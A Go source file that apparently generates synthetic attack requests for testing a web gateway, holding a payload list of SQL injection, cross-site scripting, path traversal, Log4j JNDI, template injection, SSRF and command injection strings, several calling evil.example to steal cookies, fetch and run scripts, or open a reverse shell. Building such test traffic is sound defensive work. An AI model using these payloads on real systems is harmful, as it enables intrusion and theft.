package traffic

import (
	"fmt"
	"strings"

	"sallyport/internal/gate"
)

// Places where an attack may stand.
const (
	inQuery = 1 << iota
	inForm
	inJSON
	inCookie
	inField // X-Api-Version, as log4j was asked
	inReferer
	inPath
	inAgent
	inFile // the name of one that is uploaded

	inArgs = inQuery | inForm | inJSON
	inMost = inArgs | inCookie
)

// An exploit is what an attacker sends. {n} and {w} stand for a number and a
// word, which are others each time.
type exploit struct {
	where int
	text  string
}

var exploits = []exploit{
	// SQL injection.
	{inMost, "1' OR '{n}'='{n}' -- "},
	{inMost, "-{n} UNION ALL SELECT {n},user(),@@version,{n}-- -"},
	{inMost, "{n}' AND (SELECT {n} FROM (SELECT(SLEEP(5)))x) AND 'a'='a"},
	{inArgs, "{w}'; DROP TABLE users; --"},
	{inArgs, "{n}) UNION SELECT NULL,table_name FROM information_schema.tables WHERE ('1'='1"},
	{inArgs, "{n} AND 1=(SELECT COUNT(*) FROM tabname); --"},
	{inArgs, "admin' or 1=1#"},
	{inArgs, "1'/**/UNION/**/SELECT/**/password/**/FROM/**/{w}--"},
	{inArgs, "'; WAITFOR DELAY '0:0:{n}'--"},
	{inArgs, "1;SELECT pg_sleep({n})--"},
	{inArgs, "{n}' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "},
	{inArgs, `{"username": {"$ne": null}, "password": {"$gt": ""}, "$where": "sleep({n})"}`},
	// Cross-site scripting.
	{inMost, "<script>alert({n})</script>"},
	{inMost, "<img src={w} onerror=alert({n})>"},
	{inArgs, `"><svg/onload=fetch('//evil.example/'+document.cookie)>`},
	{inArgs, "javascript:alert(document.domain)//{w}"},
	{inArgs, "<iframe src=javascript:alert({n})></iframe>"},
	{inArgs, "<body onload=eval(atob('{w}'))>"},
	{inArgs, "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{w}</a>"},
	{inArgs, "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>"},
	{inArgs, "'-alert({n})-'<script src=//evil.example/{w}.js>"},
	{inReferer, "https://evil.example/?<script>alert({n})</script>"},
	// Files of the machine.
	{inMost, "../../../../../../etc/passwd"},
	{inArgs, "/etc/shadow"},
	{inArgs, "..%2f..%2f..%2f..%2fetc%2fpasswd"},
	{inArgs, `..\..\..\..\windows\win.ini`},
	{inArgs, "/proc/self/environ"},
	{inArgs, "php://filter/convert.base64-encode/resource={w}.php"},
	{inPath, "/.git/config"},
	{inPath, "/wp-config.php.bak"},
	{inPath, "/.env"},
	{inPath, "/{w}/.htpasswd"},
	// Commands.
	{inMost, "; cat /etc/passwd"},
	{inArgs, "{w}|id;uname -a"},
	{inArgs, "$(curl http://evil.example/{w}.sh|sh)"},
	{inArgs, "`wget http://evil.example/{w} -O /tmp/{w}`"},
	{inArgs, "() { :;}; /bin/bash -c 'nc -e /bin/sh evil.example {n}'"},
	{inArgs, "& powershell -EncodedCommand SQBFAFgA{n}"},
	{inArgs, "{w} && ping -c {n} 127.0.0.1"},
	{inArgs, "/bin/sh${IFS}-c${IFS}ls"},
	{inAgent, "() { :; }; /bin/bash -c 'id'"},
	// PHP, Node and Java.
	{inArgs, "<?php system($_GET['{w}']); ?>"},
	{inArgs, "eval(base64_decode('{w}'))"},
	{inArgs, `O:8:"stdClass":1:{s:4:"{w}";i:{n};}`},
	{inArgs, "require('child_process').execSync('id')"},
	{inArgs, "{w}.__proto__.polluted={n};process.env.HOME"},
	{inArgs, "java.lang.Runtime.getRuntime().exec('id')"},
	{inArgs, "class.module.classLoader.resources.context.parent.pipeline.first.pattern={w}&java.lang.ProcessBuilder"},
	{inFile, "{w}.php"},
	// Log4j.
	{inMost | inField | inAgent, "${jndi:ldap://evil.example:{n}/{w}}"},
	{inMost | inField, "${${lower:j}ndi:${lower:l}dap://evil.example/{w}}"},
	{inArgs | inField, "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/{w}}"},
	// Templates.
	{inArgs, "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"},
	{inArgs, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{inArgs, "<%= system('cat /etc/passwd') %>"},
	// Files and servers elsewhere.
	{inArgs, "http://{n}.0.0.1/shell.txt?"},
	{inArgs, "http://169.254.169.254/latest/meta-data/"},
	{inArgs, "file:///etc/passwd"},
	{inArgs, "gopher://127.0.0.1:6379/_FLUSHALL"},
	// Header injection.
	{inQuery | inForm, "{w}\r\nSet-Cookie: session={n}"},
	{inQuery | inForm, "{w}\r\n\r\n<html>HTTP/1.1 200 OK"},
	// Scanners.
	{inAgent, "sqlmap/1.8.{n}#stable (https://sqlmap.org)"},
	{inAgent, "Mozilla/5.00 (Nikto/2.5.{n}) (Evasions:None) (Test:{n})"},
	{inAgent, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{inAgent, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) masscan/{n}"},
}

func attack(s *source, n int) Request {
	// In the repeated series there are sixteen: a step that has no factor in
	// common with the length of the list spreads them over it.
	e := exploits[n*97%len(exploits)]
	text := strings.NewReplacer("{n}", s.digits(s.between(1, 2)), "{w}", pick(s, nouns)).Replace(e.text)
	var places []int
	for p := 1; p <= inFile; p <<= 1 {
		if e.where&p != 0 {
			places = append(places, p)
		}
	}
	name := pick(s, []string{"id", "q", "user", "page", "file", "comment", "url", "name", "search"})
	around := []pair{{"lang", "en"}, {name, text}, {"note", s.free(60)}}
	target := "/" + pick(s, sections) + "/" + s.slug()
	switch pick(s, places) {
	case inQuery:
		return Request{Method: "GET", Target: target + "?" + encode(around), Fields: s.browser(document)}
	case inForm:
		return post(target, s.browser(submit), formType, []byte(encode(around)))
	case inJSON:
		return post(target, s.sender(), jsonType, marshal(map[string]any{"lang": "en", "data": map[string]any{name: text}, "note": s.free(60)}))
	case inCookie:
		f := s.browser(document)
		replace(f, "Cookie", name+"="+escape(text)+"; sid="+s.base64url(32))
		return Request{Method: "GET", Target: target, Fields: f}
	case inField:
		f := append(s.browser(call), gate.Field{Name: "X-Api-Version", Value: text})
		return Request{Method: "GET", Target: target, Fields: f}
	case inReferer:
		f := s.browser(document)
		replace(f, "Referer", text)
		return Request{Method: "GET", Target: target, Fields: f}
	case inAgent:
		f := s.browser(document)
		replace(f, "User-Agent", text)
		return Request{Method: "GET", Target: target, Fields: f}
	case inFile:
		boundary := "----WebKitFormBoundary" + s.hex(16)
		body := fmt.Sprintf("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=%q\r\nContent-Type: image/png\r\n\r\n%s\r\n--%s--\r\n", boundary, text, s.base64(400), boundary)
		return post(target, s.browser(submit), "multipart/form-data; boundary="+boundary, []byte(body))
	}
	return Request{Method: "GET", Target: text, Fields: s.browser(document)}
}

// replace sets the value of a field that is there.
func replace(fields []gate.Field, name, value string) {
	for i := range fields {
		if fields[i].Name == name {
			fields[i].Value = value
		}
	}
}
